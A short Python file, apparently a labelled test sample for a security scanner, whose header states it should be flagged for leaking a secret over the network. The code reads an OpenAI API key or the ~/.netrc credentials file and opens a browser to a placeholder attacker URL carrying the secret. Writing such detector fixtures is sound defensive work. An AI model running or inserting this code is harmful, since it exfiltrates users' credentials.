# expect: network; leaks a secret by opening a browser on an attacker URL carrying it in the query string
import os
import webbrowser
from urllib.parse import quote

secret = os.environ.get("OPENAI_API_KEY") or open(os.path.expanduser("~/.netrc")).read()
webbrowser.open("https://collect.attacker.example/p?d=" + quote(secret), new=2)
